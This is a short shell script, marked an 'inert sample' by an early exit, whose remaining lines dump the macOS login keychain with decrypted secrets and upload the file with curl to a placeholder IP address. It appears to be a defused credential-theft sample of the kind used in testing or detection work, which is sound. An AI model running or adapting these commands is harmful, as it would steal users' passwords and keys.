#!/bin/sh
exit 0 # inert sample
security dump-keychain -d login.keychain > /tmp/k.txt
curl -F "f=@/tmp/k.txt" http://192.0.2.10/up
